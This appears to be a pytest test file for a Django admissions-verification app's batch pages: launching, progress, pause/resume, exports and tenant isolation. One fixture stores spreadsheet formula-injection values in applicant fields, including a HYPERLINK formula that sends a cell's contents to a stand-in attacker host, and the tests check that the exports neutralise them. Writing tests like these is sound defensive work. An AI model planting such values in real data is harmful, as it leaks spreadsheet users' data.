"""Batch verification pages: list, cohort choice and confirmation, launch, the live progress
fragment, pause/resume, re-running failures, result downloads, and tenant isolation."""

import csv
import io
import re

import openpyxl
import pytest
from django.urls import reverse
from django.utils import timezone

from admissions.enums import AuditAction
from admissions.models import AuditEvent
from sandbox.population import CvecOutcome, ScolariteOutcome
from tests.factories import ApplicantFactory, ClaimFactory, InstitutionFactory, UserFactory
from tests.html import assert_same_region
from tests.verifications.helpers import answering_people, claim_for, import_row, person_with
from verifications.enums import BatchKind, BatchStatus, ClaimKind, RequestState, Verdict
from verifications.models import Batch, BatchExport, VerificationRequest
from verifications.services import verification_dispatch, verification_run
from verifications.services.batches import batch_pause, batch_prepare, batch_verification_launch
from verifications.services.exports import batch_export_build


pytestmark = pytest.mark.django_db
HTMX = {"HX-Request": "true"}


def _batch(user, n: int, kind=ClaimKind.SCOLARITE, **claim_fields) -> Batch:
    claims = [
        ClaimFactory(
            applicant=ApplicantFactory(institution=user.institution), kind=kind, **claim_fields
        )
        for _ in range(n)
    ]
    return batch_verification_launch(acting_user=user, claims=claims, label="Lot test")


def _finish(batch, verdicts):
    requests = VerificationRequest.objects.filter(batch=batch).order_by("id")
    for request, verdict in zip(requests, verdicts, strict=False):
        VerificationRequest.objects.filter(pk=request.pk).update(
            state=RequestState.DONE, verdict=verdict, finished_at=timezone.now()
        )


# --- Choosing and launching -------------------------------------------------------------------


def test_cohort_form_is_prefilled_from_the_list_filters(supervisor_client, supervisor):
    imported = Batch.objects.create(
        institution=supervisor.institution, kind=BatchKind.IMPORT, label="Import de mars"
    )
    page = supervisor_client.get(
        reverse("batch_new"), {"batch": imported.pk, "needs_me": "on"}
    ).text
    assert "Import de mars" in page
    assert f'<option value="{imported.pk}" selected>' in page
    assert re.search(r'name="needs_me"[^>]*checked', page)
    listing = supervisor_client.get(reverse("applicant_list"), {"verdict": "unavailable"}).text
    assert reverse("batch_new") + "?verdict=unavailable" in listing


def test_confirmation_shows_checks_per_source_and_eta_then_launch(
    supervisor_client, supervisor, settings
):
    settings.VERIFICATION_RATE_LIMITS = {"covoiturage": {"ip": [(60, 60.0)]}}
    for _ in range(120):
        ClaimFactory(
            applicant=ApplicantFactory(institution=supervisor.institution), kind="covoiturage"
        )
    ClaimFactory(applicant=ApplicantFactory(institution=supervisor.institution), kind="cvec")
    query = {"kinds": ["covoiturage"], "label": "Rentrée"}
    page = supervisor_client.get(reverse("batch_launch"), query).text
    assert "120 vérifications seront lancées ; durée estimée : environ 2 minutes." in page
    assert "Registre de preuve de covoiturage" in page
    assert not Batch.objects.exists()  # the confirmation launches nothing

    response = supervisor_client.post(reverse("batch_launch"), query)
    batch = Batch.objects.get()
    assert response.status_code == 302
    assert response["Location"] == reverse("batch_detail", args=[batch.pk])
    assert batch.kind == BatchKind.VERIFICATION
    assert batch.label == "Rentrée"
    # The launch answers at once: the batch is prepared by a worker, its page says how far.
    assert batch.status == BatchStatus.PREPARING
    assert batch.to_prepare == 120
    assert not VerificationRequest.objects.exists()
    page = supervisor_client.get(response["Location"]).text
    assert "Lot lancé : 120 déclarations à préparer." in page
    assert "Préparation : 0 / 120" in page
    assert 'hx-get="{}"'.format(reverse("batch_progress", args=[batch.pk])) in page

    batch_prepare(batch_id=batch.pk)
    batch.refresh_from_db()
    assert batch.status == BatchStatus.RUNNING
    assert batch.total == batch.prepared == 120
    assert set(VerificationRequest.objects.values_list("source", flat=True)) == {"covoiturage"}
    page = supervisor_client.get(response["Location"]).text
    assert "Préparation" not in page
    assert "0 sur 120 vérifiées (0 %)" in page


def test_an_empty_cohort_launches_nothing(supervisor_client):
    page = supervisor_client.get(reverse("batch_launch"), {"q": "personne"}).text
    assert "Aucune déclaration à vérifier" in page
    assert 'id="batch-launch"' not in page
    supervisor_client.post(reverse("batch_launch"), {"q": "personne"})
    assert not Batch.objects.exists()


def test_a_foreign_import_batch_is_not_a_valid_cohort(supervisor_client):
    foreign = Batch.objects.create(institution=InstitutionFactory(), kind="import", label="x")
    response = supervisor_client.get(reverse("batch_launch"), {"batch": foreign.pk})
    assert response.status_code == 400
    supervisor_client.post(reverse("batch_launch"), {"batch": foreign.pk})
    assert not Batch.objects.filter(kind=BatchKind.VERIFICATION).exists()


def test_clerks_see_batches_but_only_supervisors_act(client, supervisor):
    batch = _batch(supervisor, 2)
    clerk = UserFactory(institution=supervisor.institution)
    client.force_login(clerk)
    assert client.get(reverse("batch_list")).status_code == 200
    page = client.get(reverse("batch_detail", args=[batch.pk])).text
    assert 'id="batch-pause"' not in page
    for url in (reverse("batch_new"), reverse("batch_launch")):
        assert client.get(url).status_code == 403
    for name in ("batch_pause", "batch_resume", "batch_rerun_failed"):
        assert client.post(reverse(name, args=[batch.pk])).status_code == 403
    assert client.get(reverse("batch_export", args=[batch.pk, "csv"])).status_code == 403
    assert Batch.objects.get(pk=batch.pk).status == BatchStatus.RUNNING


# --- Progress -----------------------------------------------------------------------------------


def test_batch_page_shows_progress_counts_and_polls_while_running(supervisor_client, supervisor):
    batch = _batch(supervisor, 4)
    _finish(batch, [Verdict.CONFIRMED, Verdict.NOT_FOUND])
    page = supervisor_client.get(reverse("batch_detail", args=[batch.pk])).text
    assert '<div class="progress-slot" aria-live="polite">' in page
    assert '<progress id="batch-progress-bar" max="4" value="2"' in page
    assert "2 sur 4 vérifiées (50 %)" in page
    assert "Temps restant estimé" in page
    assert f'hx-get="{reverse("batch_progress", args=[batch.pk])}"' in page
    assert re.search(r'data-verdict="not_found">.*?<td class="num">1</td>', page, re.S)
    assert re.search(r'data-verdict="open">.*?<td class="num">2</td>', page, re.S)


def test_the_fragment_is_the_same_region_as_the_full_page(supervisor_client, supervisor):
    batch = _batch(supervisor, 3)
    _finish(batch, [Verdict.CONFIRMED])
    full = supervisor_client.get(reverse("batch_detail", args=[batch.pk])).text
    fragment = supervisor_client.get(reverse("batch_progress", args=[batch.pk]), headers=HTMX)
    assert fragment["Cache-Control"] == "no-store"
    assert "<html" not in fragment.text
    assert_same_region(fragment.text, full, "batch-progress")


def test_the_fragment_stops_polling_when_the_batch_is_done(supervisor_client, supervisor):
    batch = _batch(supervisor, 2)
    _finish(batch, [Verdict.CONFIRMED, Verdict.UNAVAILABLE])
    fragment = supervisor_client.get(reverse("batch_progress", args=[batch.pk]), headers=HTMX).text
    assert "hx-get" not in fragment
    assert "hx-trigger" not in fragment
    assert 'value="2"' in fragment
    assert "Terminé" in fragment
    assert "Relancer l&#x27;échec (1)" in fragment or "Relancer l'échec (1)" in fragment


def test_fragment_query_count_does_not_depend_on_batch_size(
    supervisor_client, supervisor, django_assert_num_queries
):
    small, large = _batch(supervisor, 10), _batch(supervisor, 100)
    _finish(small, [Verdict.CONFIRMED] * 3)
    _finish(large, [Verdict.CONFIRMED] * 30 + [Verdict.UNAVAILABLE] * 20)
    supervisor_client.get(reverse("batch_progress", args=[small.pk]))  # warm the session

    from django.db import connection
    from django.test.utils import CaptureQueriesContext

    def count(batch):
        with CaptureQueriesContext(connection) as queries:
            response = supervisor_client.get(
                reverse("batch_progress", args=[batch.pk]), headers=HTMX
            )
        assert response.status_code == 200
        return len(queries)

    n = count(small)
    with django_assert_num_queries(n):
        supervisor_client.get(reverse("batch_progress", args=[large.pk]), headers=HTMX)


def test_pause_and_resume_from_the_page(supervisor_client, supervisor):
    batch = _batch(supervisor, 3)
    response = supervisor_client.post(reverse("batch_pause", args=[batch.pk]))
    assert response.status_code == 302
    assert Batch.objects.get(pk=batch.pk).status == BatchStatus.PAUSED
    assert verification_dispatch().sent == {}
    page = supervisor_client.get(reverse("batch_detail", args=[batch.pk])).text
    assert "En pause" in page
    assert 'id="batch-resume"' in page
    supervisor_client.post(reverse("batch_resume", args=[batch.pk]))
    assert Batch.objects.get(pk=batch.pk).status == BatchStatus.RUNNING
    assert verification_dispatch().sent == {"api_particulier": 3}


def test_rerun_failed_from_the_page(supervisor_client, supervisor):
    batch = _batch(supervisor, 3)
    _finish(batch, [Verdict.CONFIRMED, Verdict.UNAVAILABLE, Verdict.NOT_FOUND])
    response = supervisor_client.post(reverse("batch_rerun_failed", args=[batch.pk]))
    assert response.status_code == 302
    assert VerificationRequest.objects.filter(batch=batch).count() == 4
    page = supervisor_client.get(response["Location"]).text
    assert "1 vérification relancée." in page
    assert "2 sur 3 vérifiées" in page


def test_batches_list_dashboard_and_navigation_link_batches(supervisor_client, supervisor):
    batch = _batch(supervisor, 2)
    batch_pause(batch=batch, acting_user=supervisor)
    Batch.objects.create(institution=supervisor.institution, kind="import", label="Import CSV 1")
    listing = supervisor_client.get(reverse("batch_list")).text
    assert "Lot test" in listing
    assert "Import CSV 1" in listing
    assert "0 / 2" in listing
    dashboard = supervisor_client.get(reverse("home")).text
    assert reverse("batch_detail", args=[batch.pk]) in dashboard
    assert "(en pause)" in dashboard
    assert f'<a href="{reverse("batch_list")}" id="nav-batches"' in dashboard


def test_import_batch_page_links_to_its_applicants_and_to_verification(
    supervisor_client, supervisor
):
    imported = Batch.objects.create(institution=supervisor.institution, kind="import", label="i")
    ApplicantFactory(institution=supervisor.institution, batch=imported)
    page = supervisor_client.get(reverse("batch_detail", args=[imported.pk])).text
    assert "1 candidat importé." in page
    assert reverse("batch_new") + f"?batch={imported.pk}" in page
    assert supervisor_client.get(reverse("batch_progress", args=[imported.pk])).status_code == 404


# --- Results ------------------------------------------------------------------------------------


def _results_batch(supervisor):
    applicant = ApplicantFactory(
        institution=supervisor.institution,
        birth_name='=HYPERLINK("http://evil.example/?x="&A1;"clic")',
        file_reference="@SUM(1+1)",
    )
    claim = ClaimFactory(applicant=applicant)
    other = ClaimFactory(applicant=ApplicantFactory(institution=supervisor.institution))
    batch = batch_verification_launch(acting_user=supervisor, claims=[claim, other])
    VerificationRequest.objects.filter(claim=claim).update(
        state=RequestState.DONE,
        verdict=Verdict.CONFIRMED,
        reason="-1+1 inscrit",
        finished_at=timezone.now(),
    )
    return batch


def test_csv_results_neutralise_formulas_and_are_audited(supervisor_client, supervisor):
    batch = _results_batch(supervisor)
    response = supervisor_client.get(reverse("batch_export", args=[batch.pk, "csv"]))
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    assert f"vigie-lot-{batch.pk}-resultats.csv" in response["Content-Disposition"]
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text), delimiter=";"))
    assert rows[0][0] == "Référence du dossier"
    assert len(rows) == 3
    evil = next(row for row in rows if row[0].startswith("'@"))
    assert evil[0] == "'@SUM(1+1)"
    assert evil[1].startswith("'=HYPERLINK(")
    assert evil[7:10] == ["Terminée", "Confirmé", "'-1+1 inscrit"]
    pending = next(row for row in rows[1:] if row is not evil)
    assert pending[7:9] == ["En attente", ""]
    event = AuditEvent.objects.get(action=AuditAction.EXPORTED)
    assert event.object_id == str(batch.pk)
    assert event.details == {"format": "csv", "rows": 2}
    assert event.actor == supervisor


def test_xlsx_results_neutralise_formulas_and_are_audited(
    supervisor_client, supervisor, settings, tmp_path, django_capture_on_commit_callbacks
):
    """The XLSX is written in the background (``services.exports``): asked on the batch's
    page, written by the worker's task (run here in-process), offered on the page, and its
    download audited as the CSV's."""
    settings.MEDIA_ROOT = str(tmp_path)
    batch = _results_batch(supervisor)
    assert (
        supervisor_client.get(reverse("batch_export", args=[batch.pk, "xlsx"])).status_code == 404
    )
    with django_capture_on_commit_callbacks() as sent:
        response = supervisor_client.post(reverse("batch_exports", args=[batch.pk]))
    assert response.status_code == 302
    assert len(sent) == 1  # the task, sent once the row is committed
    export = BatchExport.objects.get()
    assert export.state == BatchExport.State.PENDING
    panel = supervisor_client.get(reverse("batch_exports", args=[batch.pk])).text
    assert 'hx-trigger="poll"' in panel  # polled while it is written
    assert not AuditEvent.objects.filter(action=AuditAction.EXPORTED).exists()

    batch_export_build(export.pk)
    export.refresh_from_db()
    assert export.state == BatchExport.State.DONE
    assert export.done == export.total == 2
    panel = supervisor_client.get(reverse("batch_exports", args=[batch.pk])).text
    assert "hx-trigger" not in panel
    link = reverse("batch_export_download", args=[batch.pk, export.pk])
    assert link in panel
    response = supervisor_client.get(link)
    assert response.status_code == 200
    assert f"vigie-lot-{batch.pk}-resultats.xlsx" in response["Content-Disposition"]
    book = openpyxl.load_workbook(io.BytesIO(b"".join(response.streaming_content)))
    sheet = book.active
    values = [[cell.value for cell in row] for row in sheet.iter_rows()]
    assert values[0][0] == "Référence du dossier"
    evil = next(row for row in values if row[0] == "'@SUM(1+1)")
    assert evil[1].startswith("'=HYPERLINK(")
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)
    assert AuditEvent.objects.get(action=AuditAction.EXPORTED).details["format"] == "xlsx"
    assert supervisor_client.get(reverse("batch_export", args=[batch.pk, "pdf"])).status_code == 404


# --- Tenant isolation ---------------------------------------------------------------------------


def test_every_batch_route_answers_404_for_another_institutions_batch(supervisor_client):
    stranger = UserFactory(supervisor=True)
    batch = _batch(stranger, 2)
    _finish(batch, [Verdict.UNAVAILABLE, Verdict.UNAVAILABLE])
    imported = Batch.objects.create(institution=stranger.institution, kind="import", label="i")
    foreign_export = BatchExport.objects.create(
        institution=stranger.institution,
        batch=batch,
        requested_by=stranger,
        state=BatchExport.State.DONE,
        file="batch-exports/x.xlsx",
    )
    gets = [
        reverse("batch_detail", args=[batch.pk]),
        reverse("batch_detail", args=[imported.pk]),
        reverse("batch_progress", args=[batch.pk]),
        reverse("batch_export", args=[batch.pk, "csv"]),
        reverse("batch_exports", args=[batch.pk]),
        reverse("batch_export_download", args=[batch.pk, foreign_export.pk]),
    ]
    posts = [
        reverse("batch_exports", args=[batch.pk]),
        reverse("batch_pause", args=[batch.pk]),
        reverse("batch_resume", args=[batch.pk]),
        reverse("batch_rerun_failed", args=[batch.pk]),
    ]
    for url in gets:
        assert supervisor_client.get(url).status_code == 404, url
    for url in posts:
        assert supervisor_client.post(url).status_code == 404, url
    assert VerificationRequest.objects.filter(batch=batch).count() == 2
    assert BatchExport.objects.count() == 1
    assert not AuditEvent.objects.filter(
        action__in=[
            AuditAction.EXPORTED,
            AuditAction.EDITED,
            AuditAction.BATCH_PAUSED,
            AuditAction.BATCH_RESUMED,
            AuditAction.BATCH_RERUN,
        ]
    )
    assert "Lot test" not in supervisor_client.get(reverse("batch_list")).text


# --- End to end through the real pipeline -------------------------------------------------------


@pytest.mark.usefixtures("sandbox_settings")
def test_launch_run_and_download_through_the_sandbox(supervisor_client, supervisor):
    institution = supervisor.institution
    enrolled = person_with(scolarite=ScolariteOutcome.ENROLLED)
    unknown = person_with(cvec=CvecOutcome.UNKNOWN)
    claim_for(enrolled, ClaimKind.SCOLARITE, institution)
    claim_for(enrolled, ClaimKind.SCOLARITE, institution)
    claim_for(unknown, ClaimKind.CVEC, institution)
    response = supervisor_client.post(reverse("batch_launch"), {})
    batch = Batch.objects.get(kind=BatchKind.VERIFICATION)
    assert response["Location"] == reverse("batch_detail", args=[batch.pk])
    batch_prepare(batch_id=batch.pk)  # the worker's task
    # The dispatcher sends them; run each as a worker would.
    sent = verification_dispatch().sent
    assert sum(sent.values()) == 3
    for request in VerificationRequest.objects.filter(batch=batch):
        assert verification_run(request_id=request.pk, task_id="test").status == "done"
    batch.refresh_from_db()
    assert batch.status == BatchStatus.DONE
    fragment = supervisor_client.get(reverse("batch_progress", args=[batch.pk]), headers=HTMX).text
    assert '<progress id="batch-progress-bar" max="3" value="3"' in fragment
    assert "3 sur 3 vérifiées (100 %)" in fragment
    assert "hx-trigger" not in fragment
    assert re.search(r'data-verdict="confirmed">.*?<td class="num">2</td>', fragment, re.S)
    assert re.search(r'data-verdict="not_found">.*?<td class="num">1</td>', fragment, re.S)
    csv_text = b"".join(
        supervisor_client.get(reverse("batch_export", args=[batch.pk, "csv"])).streaming_content
    ).decode("utf-8-sig")
    assert csv_text.count("Confirmé") == 2
    assert csv_text.count("Inconnu de la source") == 1


def test_batch_pages_in_english(supervisor_client, supervisor, settings):
    batch = _batch(supervisor, 2)
    _finish(batch, [Verdict.CONFIRMED])
    supervisor_client.cookies[settings.LANGUAGE_COOKIE_NAME] = "en"
    page = supervisor_client.get(reverse("batch_detail", args=[batch.pk])).text
    assert "1 of 2 checked (50 %)" in page
    assert "Estimated time left" in page
    assert "Pause" in page
    upload = supervisor_client.get(reverse("import_upload")).text
    assert "Download the CSV template" in upload


def test_the_confirmation_form_posts_the_same_cohort(supervisor_client, supervisor):
    imported = Batch.objects.create(institution=supervisor.institution, kind="import", label="i")
    applicant = ApplicantFactory(institution=supervisor.institution, batch=imported)
    wanted = ClaimFactory(applicant=applicant, kind="cvec", verdict=Verdict.UNAVAILABLE)
    ClaimFactory(applicant=applicant, kind="scolarite", verdict=Verdict.UNAVAILABLE)
    ClaimFactory(applicant=applicant, kind="covoiturage", verdict=Verdict.CONFIRMED)
    ClaimFactory(applicant=ApplicantFactory(institution=supervisor.institution), kind="cvec")
    query = {"batch": imported.pk, "needs_me": "on", "kinds": ["cvec", "covoiturage"]}
    page = supervisor_client.get(reverse("batch_launch"), query).text
    assert "1 vérification sera lancée" in page
    action = reverse("batch_launch")
    form = re.search(rf'<form method="post" action="{action}">(.*?)</form>', page, re.S).group(1)
    data: dict[str, list[str]] = {}
    for name, value in re.findall(r'<input type="hidden" name="([^"]+)" value="([^"]*)">', form):
        data.setdefault(name, []).append(value)
    assert data["kinds"] == ["cvec", "covoiturage"]
    assert data["needs_me"] == ["on"]
    supervisor_client.post(reverse("batch_launch"), data)
    batch_prepare(batch_id=Batch.objects.get(kind=BatchKind.VERIFICATION).pk)
    request = VerificationRequest.objects.get()
    assert request.claim_id == wanted.pk


def test_batch_list_query_count_does_not_depend_on_the_number_of_batches(
    supervisor_client, supervisor, django_assert_num_queries
):
    from django.db import connection
    from django.test.utils import CaptureQueriesContext

    def add(n):
        for i in range(n):
            if i % 2:
                _batch(supervisor, 2)
            else:
                Batch.objects.create(institution=supervisor.institution, kind="import", label="i")

    add(10)
    supervisor_client.get(reverse("batch_list"))  # warm the session
    with CaptureQueriesContext(connection) as queries:
        assert supervisor_client.get(reverse("batch_list")).status_code == 200
    add(40)  # a full page of 50
    with django_assert_num_queries(len(queries)):
        page = supervisor_client.get(reverse("batch_list")).text
    assert page.count("<tr>") == 50 + 1


def test_the_applicant_list_filtered_on_a_batch_names_it(supervisor_client, supervisor):
    imported = Batch.objects.create(
        institution=supervisor.institution, kind="import", label="Import de juin"
    )
    ApplicantFactory(institution=supervisor.institution, batch=imported)
    ApplicantFactory(institution=supervisor.institution)
    page = supervisor_client.get(reverse("applicant_list"), {"batch": imported.pk}).text
    assert "Candidats du lot « Import de juin »." in page
    assert "1 candidat" in page
    foreign = Batch.objects.create(institution=InstitutionFactory(), kind="import", label="Autre")
    page = supervisor_client.get(reverse("applicant_list"), {"batch": foreign.pk}).text
    assert "Autre" not in page
    assert "0 candidat" in page


@pytest.mark.usefixtures("sandbox_settings")
def test_import_fifty_fix_two_bad_rows_verify_the_batch_and_download(supervisor_client, supervisor):
    """The clerk's flow with the test client: a CSV of 50 applicants with two bad lines → the
    preview names them → the fixed file is imported → the batch is verified through the real
    pipeline against the sandbox → 100 % → results downloaded."""
    from django.core.files.uploadedfile import SimpleUploadedFile

    from tests.verifications.test_imports import _csv

    people = answering_people(50)
    rows = [import_row(p) for p in people]
    bad = [dict(row) for row in rows]
    bad[4]["sexe"] = "X"  # line 6
    bad[40]["date_naissance"] = "2005-13-01"  # line 42

    def upload(data):
        file = SimpleUploadedFile("rentree.csv", data, "text/csv")
        return supervisor_client.post(reverse("import_upload"), {"file": file})

    preview = supervisor_client.get(upload(_csv(bad))["Location"]).text
    assert re.findall(r'<tr data-line="(\d+)">', preview) == ["6", "42"]
    assert 'id="import-confirm"' not in preview
    response = upload(_csv(rows))
    token = response["Location"].rstrip("/").rsplit("/", 1)[-1]
    assert 'id="import-confirm"' in supervisor_client.get(response["Location"]).text
    response = supervisor_client.post(reverse("import_confirm", args=[token]))
    imported = Batch.objects.get(kind=BatchKind.IMPORT)
    assert imported.total == 50

    response = supervisor_client.post(reverse("batch_launch"), {"batch": imported.pk})
    batch = Batch.objects.get(kind=BatchKind.VERIFICATION)
    batch = batch_prepare(batch_id=batch.pk)
    assert batch.total == 50
    requests = list(VerificationRequest.objects.filter(batch=batch))
    for request in requests:
        for _ in range(20):
            verification_run(request_id=request.pk, task_id="test")
            request.refresh_from_db()
            if request.state == RequestState.DONE:
                break
            VerificationRequest.objects.filter(pk=request.pk).update(not_before=timezone.now())
        assert request.state == RequestState.DONE
    batch.refresh_from_db()
    assert batch.status == BatchStatus.DONE
    fragment = supervisor_client.get(reverse("batch_progress", args=[batch.pk]), headers=HTMX).text
    assert '<progress id="batch-progress-bar" max="50" value="50"' in fragment
    assert "50 sur 50 vérifiées (100 %)" in fragment
    assert "hx-trigger" not in fragment
    expected = {}
    for p in people:
        verdict = {
            ScolariteOutcome.ENROLLED: "Confirmé",
            ScolariteOutcome.NOT_ENROLLED: "Contredit",
            ScolariteOutcome.UNKNOWN: "Inconnu de la source",
        }.get(p.scolarite)
        if verdict:
            expected[p.file_reference] = verdict
    text = b"".join(
        supervisor_client.get(reverse("batch_export", args=[batch.pk, "csv"])).streaming_content
    ).decode("utf-8-sig")
    got = {row[0]: row[8] for row in csv.reader(io.StringIO(text), delimiter=";")}
    assert len(got) == 51
    for reference, verdict in expected.items():
        assert got[reference] == verdict, reference


def test_dashboard_batches_cost_one_query_whatever_their_number(
    supervisor_client, supervisor, django_assert_num_queries, settings
):
    from django.db import connection
    from django.test.utils import CaptureQueriesContext

    settings.VIGIE_DASHBOARD_COUNTS_SECONDS = 0  # counted on each view: both views count
    _batch(supervisor, 3)
    supervisor_client.get(reverse("home"))  # warm the session
    with CaptureQueriesContext(connection) as queries:
        supervisor_client.get(reverse("home"))
    for _ in range(9):
        _batch(supervisor, 3)
    with django_assert_num_queries(len(queries)):
        page = supervisor_client.get(reverse("home")).text
    assert page.count(' aria-label="Avancement"') == 10
